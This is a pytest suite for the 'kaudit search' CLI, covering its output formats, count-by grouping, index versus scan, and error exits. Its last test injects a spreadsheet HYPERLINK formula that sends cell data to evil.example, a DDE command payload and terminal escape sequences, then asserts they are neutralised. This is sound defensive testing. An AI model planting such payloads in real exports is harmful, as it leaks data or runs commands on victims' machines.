"""`kaudit search` on the command line: each output format, count-by output, the
configured index versus a scanned log, and usage errors with exit code 2."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml
from click.testing import CliRunner
from kaudit_store_data import export, index_path, log_events, log_lines, make_config, record_traffic

import kaudit
from kaudit.cli import main

START = datetime(2026, 8, 1, tzinfo=UTC)
END = datetime(2026, 8, 11, tzinfo=UTC)


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[bytes]]:
    tmp = tmp_path_factory.mktemp("cli")
    config = make_config(tmp)
    record_traffic(config, 600, START, END)
    export(config)
    config_file = tmp / "kaudit.yaml"
    config_file.write_text(
        yaml.safe_dump(
            {"data_dir": str(config.data_path), "audit": {"destinations": [{"type": "store"}]}}
        )
    )
    assert index_path(config).exists()
    return config_file, log_lines(config)


def search(*args: str) -> Any:
    result = CliRunner().invoke(main, ["search", *args])
    return result


def denied_lines(lines: list[bytes]) -> list[bytes]:
    """The denied events, newest first (timestamps grow with the log here)."""
    return [line for line in reversed(lines) if b'"result":"denied"' in line]


def test_jsonl_is_the_default_off_a_terminal_and_is_the_log_line_for_line(
    data: tuple[Path, list[bytes]],
) -> None:
    config_file, lines = data
    result = search("-c", str(config_file), "--result", "denied", "--limit", "0")
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.splitlines() == denied_lines(lines)


def test_json_is_an_array_of_the_native_events(data: tuple[Path, list[bytes]]) -> None:
    config_file, lines = data
    result = search("-c", str(config_file), "--result", "denied", "-n", "5", "-o", "json")
    assert result.exit_code == 0, result.output
    assert orjson.loads(result.stdout_bytes) == [orjson.loads(x) for x in denied_lines(lines)[:5]]


def test_csv_has_a_header_and_one_row_per_event(data: tuple[Path, list[bytes]]) -> None:
    config_file, lines = data
    result = search("-c", str(config_file), "--type", "acl.*", "-n", "0", "-o", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    want = [orjson.loads(x) for x in reversed(lines) if b'"event_type":"acl.' in x]
    assert [r["event_id"] for r in rows] == [e["event_id"] for e in want]
    first = rows[0]
    assert first["actor"] == want[0]["actor"]["id"]
    assert first["resource"] == f"{want[0]['resource']['type']}:{want[0]['resource']['id']}"
    assert first["result"] == want[0]["action"]["result"]
    assert first["sequence_number"] == str(want[0]["integrity"]["sequence_number"])


def test_table_lines_up_columns_and_says_how_many(data: tuple[Path, list[bytes]]) -> None:
    config_file, lines = data
    result = search("-c", str(config_file), "--actor", "bob", "-n", "3", "-o", "table")
    assert result.exit_code == 0, result.output
    out = result.output.splitlines()
    assert out[0].split() == [
        "TIMESTAMP",
        "EVENT",
        "TYPE",
        "ACTOR",
        "RESOURCE",
        "RESULT",
        "CLUSTER",
    ]
    assert len(out) == 5 and out[-1] == "(3 events, newest first)"
    bob = [orjson.loads(x) for x in reversed(lines) if b'"id":"User:bob"' in x]
    assert out[1].split()[:3] == [bob[0]["timestamp"], bob[0]["event_type"], "User:bob"]
    assert out[0].index("ACTOR") == out[1].index("User:bob")


@pytest.mark.parametrize("fmt", ["table", "json", "jsonl", "csv"])
def test_count_by_in_every_format(data: tuple[Path, list[bytes]], fmt: str) -> None:
    config_file, lines = data
    result = search("-c", str(config_file), "--count-by", "result", "-o", fmt)
    assert result.exit_code == 0, result.output
    events = [orjson.loads(x) for x in lines]
    want = {
        r: sum(1 for e in events if e["action"]["result"] == r)
        for r in ("success", "failure", "denied")
    }
    if fmt == "table":
        rows = result.output.splitlines()
        got = {r.split()[0]: int(r.split()[1]) for r in rows[1:-1]}
        assert rows[-1] == f"(3 groups, {len(events)} events)"
    elif fmt == "json":
        got = {r["result"]: r["count"] for r in orjson.loads(result.output)}
    elif fmt == "jsonl":
        got = {r["result"]: r["count"] for r in map(orjson.loads, result.output.splitlines())}
    else:
        got = {r["result"]: int(r["count"]) for r in csv.DictReader(io.StringIO(result.output))}
    assert got == want


def test_count_by_day_names_dates(data: tuple[Path, list[bytes]]) -> None:
    config_file, lines = data
    result = search("-c", str(config_file), "--count-by", "day", "-o", "json")
    days = {r["day"]: r["count"] for r in orjson.loads(result.output)}
    assert sorted(days) == [f"2026-08-{d:02d}" for d in range(1, 11)]
    assert sum(days.values()) == len(lines)


def test_count_by_hour_names_utc_hours_and_source_filters(data: tuple[Path, list[bytes]]) -> None:
    config_file, lines = data
    args = ["-c", str(config_file), "--since", "2026-08-02T10:30Z", "--until", "2026-08-02T13:00Z"]
    result = search(*args, "--count-by", "hour", "--source", "sd*", "-o", "json")
    assert result.exit_code == 0, result.output
    hours = {r["hour"]: r["count"] for r in orjson.loads(result.output)}
    assert sorted(hours) == ["2026-08-02T10:00Z", "2026-08-02T11:00Z", "2026-08-02T12:00Z"]
    in_range = [
        e
        for e in map(orjson.loads, lines)
        if "2026-08-02T10:30" <= e["timestamp"] < "2026-08-02T13:00"
    ]
    assert sum(hours.values()) == len(in_range)
    result = search(*args, "--count-by", "source", "--source", "gateway", "-o", "json")
    assert orjson.loads(result.output) == []


def test_the_index_and_a_scan_of_the_data_dir_print_the_same(
    data: tuple[Path, list[bytes]],
) -> None:
    config_file, _ = data
    data_dir = yaml.safe_load(config_file.read_text())["data_dir"]
    args = [
        "--since",
        "2026-08-04",
        "--until",
        "2026-08-09T12:00:00Z",
        "--type",
        "topic.*",
        "-o",
        "jsonl",
        "-n",
        "0",
    ]
    from_index = search("-c", str(config_file), *args)
    from_scan = search(data_dir, *args)
    from_index_file = search(str(Path(data_dir) / "index.sqlite"), *args)
    assert from_index.exit_code == from_scan.exit_code == 0
    assert from_index.stdout_bytes == from_scan.stdout_bytes == from_index_file.stdout_bytes
    assert from_index.stdout_bytes.count(b"\n") > 10


def test_usage_errors_exit_2_and_say_what_is_accepted(data: tuple[Path, list[bytes]]) -> None:
    config_file, _ = data
    bad_time = search("-c", str(config_file), "--since", "last week")
    assert bad_time.exit_code == 2 and "duration back from now" in bad_time.output
    bad_result = search("-c", str(config_file), "--result", "ok")
    assert bad_result.exit_code == 2 and "success" in bad_result.output
    empty_query = search("-c", str(config_file), "--query", "--")
    assert empty_query.exit_code == 2 and "no words" in empty_query.output


def test_a_missing_index_is_a_clear_error(tmp_path: Path) -> None:
    config_file = tmp_path / "k.yaml"
    config_file.write_text(
        yaml.safe_dump(
            {"data_dir": str(tmp_path / "d"), "audit": {"destinations": [{"type": "store"}]}}
        )
    )
    result = search("-c", str(config_file))
    assert result.exit_code == 1 and "no search index at" in result.output


def test_without_a_store_the_configured_log_is_scanned(tmp_path: Path) -> None:
    config = make_config(tmp_path, destinations=[])
    record_traffic(config, 50, START, END)
    config_file = tmp_path / "k.yaml"
    config_file.write_text(yaml.safe_dump({"data_dir": str(config.data_path)}))
    result = search("-c", str(config_file), "-n", "0")
    assert result.exit_code == 0, result.output
    assert [orjson.loads(x)["event_id"] for x in result.stdout_bytes.splitlines()] == [
        e["event_id"] for e in reversed(log_events(config))
    ]


def test_what_clients_chose_is_text_in_a_spreadsheet_and_inert_in_a_terminal(
    tmp_path: Path,
) -> None:
    config = make_config(tmp_path, destinations=[])
    formula = '=HYPERLINK("https://evil.example/?"&A2,"open")'
    escape = "\x1b]0;owned\x07\x1b[2J"
    with kaudit.open(config) as session:
        mallory = {"type": "user", "id": "User:mallory", "client_id": formula}
        session.emit("topic.deleted", actor=mallory, resource="topic:payments",
                     error="+cmd|' /C calc'!A0")  # fmt: skip
        hidden = {"type": "user", "id": f"User:{escape}", "client_id": "-2+3"}
        session.emit("topic.deleted", actor=hidden, resource="@SUM(1+1):orders")
    source = str(config.log_dir)

    exported = search(source, "-o", "csv")
    assert exported.exit_code == 0, exported.output
    rows = list(csv.DictReader(io.StringIO(exported.output)))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert "'" + formula in cells and "'-2+3" in cells and "'+cmd|' /C calc'!A0" in cells
    counted = search(source, "--count-by", "resource", "-o", "csv")
    assert counted.exit_code == 0, counted.output
    groups = [row["resource"] for row in csv.DictReader(io.StringIO(counted.output))]
    assert sorted(groups) == ["'@sum(1+1):orders", "topic:payments"]

    table = search(source, "-o", "table")
    assert table.exit_code == 0, table.output
    assert "\x1b" not in table.output and "\x07" not in table.output
    assert "User:\\x1b]0;owned" in table.output
    # JSON stays the recorded event, escaped by JSON itself.
    line = search(source, "-o", "jsonl").stdout_bytes.splitlines()[0]
    assert b"\x1b" not in line and orjson.loads(line)["actor"]["id"] == f"User:{escape}"
